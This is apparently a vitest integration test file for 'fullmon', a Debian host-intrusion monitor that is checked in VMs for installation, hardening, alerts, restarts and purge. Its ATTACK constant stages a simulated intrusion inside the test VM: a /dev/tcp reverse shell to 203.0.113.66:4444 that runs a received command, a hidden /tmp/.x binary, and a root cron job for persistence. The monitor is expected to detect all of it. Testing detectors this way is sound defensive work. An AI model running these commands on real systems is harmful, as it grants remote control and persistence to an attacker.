import { copyFileSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { findMirror } from '../support/debian.ts'
import { builtPackage, noPackages } from '../support/package.ts'
import { EMULATES, startVm, type Vm, vmUnavailable } from '../support/vm.ts'

const MINUTE_MS = 60_000
const TRAINING_S = EMULATES ? 120 : 20
const PATIENCE_MS = EMULATES ? 5 * MINUTE_MS : MINUTE_MS
const TEST_MS = EMULATES ? 20 * MINUTE_MS : 2 * MINUTE_MS
const POLL_MS = 1000

const mirror = findMirror()
/** FULLMON_TEST_VM_SUITES=trixie boots only that one. */
const SUITES = process.env['FULLMON_TEST_VM_SUITES']?.split(',') ?? ['bookworm', 'trixie']
const obstacles = new Map<string, string | undefined>()
for (const suite of SUITES) {
  const obstacle = noPackages() ?? (await vmUnavailable(suite, mirror))
  obstacles.set(suite, obstacle)
  if (obstacle !== undefined) process.stderr.write(`vm.test.ts: ${suite}: left out: ${obstacle}\n`)
}

/** Put there before the package comes, as those who administer many hosts do. */
const CONFIG = `log: /var/log/fullmon/fullmon.log
baseline: ${TRAINING_S}
monitor: 5
`

/** A clock must not decide what happens in minutes. */
const NO_JOBS = `systemctl list-unit-files --type=timer --no-legend | cut -d' ' -f1 | xargs systemctl mask --now cron.service`

const ORDINARY =
  'for i in 1 2 3; do ls /etc >/var/tmp/listing; cat /var/tmp/listing >/dev/null; rm /var/tmp/listing; done'

const ADDRESS = '203.0.113.66'
const ATTACK = `
ip address add ${ADDRESS}/32 dev lo
perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(Listen => 1, LocalAddr => "${ADDRESS}", LocalPort => 4444) or die;
  my $c = $s->accept; print $c "id; exit\\n"; sleep 2' >/dev/null 2>&1 &
until ss -tln | grep -q :4444; do sleep 0.1; done
su alice -s /bin/bash -c 'cp /bin/true /tmp/.x; /tmp/.x; exec 3<>/dev/tcp/${ADDRESS}/4444; read line <&3; eval "$line" >&3'
printf '* * * * * root /tmp/.x\\n' >/etc/cron.d/updater
`

interface Told {
  readonly severity: string
  readonly title: string
}

describe.each(SUITES)('%s as a machine of its own', { timeout: TEST_MS }, (suite) => {
  const media = mkdtempSync(join(tmpdir(), 'fullmon-media-'))
  let vm: Vm

  beforeAll(async () => {
    if (obstacles.get(suite) !== undefined) return
    copyFileSync(builtPackage(), join(media, 'fullmon_1_amd64.deb'))
    copyFileSync(builtPackage({ version: '999' }), join(media, 'fullmon_999_amd64.deb'))
    vm = await startVm(suite, mirror, media)
  }, TEST_MS)

  afterAll(async () => {
    if (obstacles.get(suite) === undefined) await vm.stop()
    rmSync(media, { recursive: true, force: true })
  })

  beforeEach(({ skip }) => {
    const obstacle = obstacles.get(suite)
    skip(obstacle !== undefined, obstacle)
  })

  /** @throws Error with what the script printed last, when it goes on failing */
  const until = async (script: string): Promise<void> => {
    const deadlineMs = performance.now() + PATIENCE_MS
    for (;;) {
      const { status, stdout, stderr } = await vm.run(script)
      if (status === 0) return
      if (performance.now() > deadlineMs) throw new Error(`${script}: ${stdout}${stderr}`)
      await sleep(POLL_MS)
    }
  }
  const alerts = async (): Promise<Told[]> =>
    (await vm.must('fullmon alerts --json --state open'))
      .split('\n')
      .filter((line) => line !== '')
      .map((line) => JSON.parse(line) as Told)
      .map(({ severity, title }) => ({ severity, title }))

  test('apt installs it without a network; it runs as its own user, and nothing is hidden from it', async () => {
    await vm.must(NO_JOBS)
    await vm.must(`install -d /etc/fullmon && printf '%s' '${CONFIG}' >/etc/fullmon/config.yaml`)
    await vm.must('apt-get install -y -o Dpkg::Options::=--force-confold /media/fullmon_1_amd64.deb')
    await until('systemctl is-active fullmon')
    const pid = (await vm.must('systemctl show -P MainPID fullmon')).trim()
    expect(await vm.must(`stat -c %U /proc/${pid}`)).toBe('fullmon\n')
    // CAP_DAC_READ_SEARCH 2, CAP_SYS_PTRACE 19, CAP_AUDIT_CONTROL 30
    const caps = (2 ** 2 + 2 ** 19 + 2 ** 30).toString(16).padStart(16, '0')
    expect(await vm.must(`grep -E '^(Cap(Eff|Bnd)|NoNewPrivs|Seccomp):' /proc/${pid}/status`)).toBe(
      `CapEff:\t${caps}\nCapBnd:\t${caps}\nNoNewPrivs:\t1\nSeccomp:\t2\n`,
    )
    const rules = await vm.must("grep -c '^-[aA]' /etc/audit/rules.d/fullmon.rules")
    expect(await vm.must('auditctl -l | wc -l')).toBe(rules)
    await until('fullmon status | grep -q "^coverage *complete"')
    const { lines } = await vm.run('fullmon doctor --json')
    // Both Debians ship ENRICHED, of which doctor says what it is worth.
    const bad = lines.map((line) => JSON.parse(line) as { state: string; name: string })
    expect(bad.filter(({ state }) => state === 'bad').map(({ name }) => name)).toEqual(['log-format'])
  })

  test('its unit is sound, as the systemd of this Debian sees it', async () => {
    const [unit = ''] = (await vm.must('systemctl show -P FragmentPath fullmon')).split('\n')
    const { status, stdout, stderr } = await vm.run(`systemd-analyze verify ${unit}`)
    expect({ status, stdout, stderr }).toEqual({ status: 0, stdout: '', stderr: '' })
    const security = await vm.must('systemd-analyze security fullmon --no-pager')
    const [, exposure] = /exposure level.*: ([\d.]+) /.exec(security) ?? []
    expect(Number(exposure)).toBeLessThanOrEqual(2)
    expect(Number(await vm.must('cat /sys/fs/cgroup/system.slice/fullmon.service/memory.max'))).toBe(
      512 * 1024 * 1024,
    )
  })

  test('after the training ordinary life is quiet, and an attack is told with its chain', async () => {
    await vm.must(ORDINARY)
    await until('fullmon status | grep -q "^phase *trained"')
    await vm.must(ORDINARY)
    expect(await alerts()).toEqual([])
    await vm.must(ATTACK)
    await until('fullmon incidents --json | grep -q cron.d/updater')
    const told = await vm.must('fullmon incidents --json')
    expect(told).toContain(`host:${ADDRESS}:4444`)
    expect(told).toContain('"proc::root:/usr/bin/su","proc::alice:/usr/bin/bash"')
    expect(told).toContain('proc::alice:/tmp/.x')
    expect((await alerts()).map(({ severity }) => severity)).toContain('critical')
    await vm.must('rm /etc/cron.d/updater /tmp/.x; fullmon reset --all')
  })

  test('a boot is no alert', async () => {
    await until('test -z "$(fullmon alerts --state open --json)"')
    await vm.reboot()
    await until('fullmon status | grep -q "^coverage *complete"')
    await sleep(10_000)
    expect(await alerts()).toEqual([])
    expect(await vm.must('auditctl -l | wc -l')).toBe(
      await vm.must("grep -c '^-[aA]' /etc/audit/rules.d/fullmon.rules"),
    )
  })

  test('an upgrade tells that the package came as a file, and no more', async () => {
    await vm.must('apt-get install -y /media/fullmon_999_amd64.deb')
    await until('fullmon status | grep -q "^coverage *complete"')
    await until('test -n "$(fullmon alerts --state open --json)"')
    await sleep(10_000)
    expect(await alerts()).toEqual([
      { severity: 'medium', title: 'apt-get (root) installed or changed 1 package: fullmon' },
    ])
  })

  test('one that hangs is started again', async () => {
    await vm.must(`mkdir -p /run/systemd/system/fullmon.service.d
      printf '[Service]\\nWatchdogSec=${EMULATES ? 30 : 5}s\\nRestartSec=1s\\n' >/run/systemd/system/fullmon.service.d/test.conf
      systemctl daemon-reload; systemctl restart fullmon`)
    const before = await vm.must('systemctl show -P MainPID fullmon')
    await vm.must('systemctl kill --signal=STOP fullmon')
    await until(`test "$(systemctl show -P NRestarts fullmon)" -gt 0 && systemctl is-active --quiet fullmon`)
    expect(await vm.must('systemctl show -P MainPID fullmon')).not.toBe(before)
  })

  test('removed, it leaves no rule in the kernel; purged, it leaves nothing', async () => {
    await vm.must('apt-get remove -y fullmon')
    expect(await vm.must('auditctl -l')).toBe('No rules\n')
    await vm.must('apt-get purge -y fullmon')
    expect(
      await vm.run('ls -d /etc/fullmon /var/lib/fullmon /var/log/fullmon /usr/lib/fullmon 2>/dev/null'),
    ).toMatchObject({
      stdout: '',
    })
  })
})
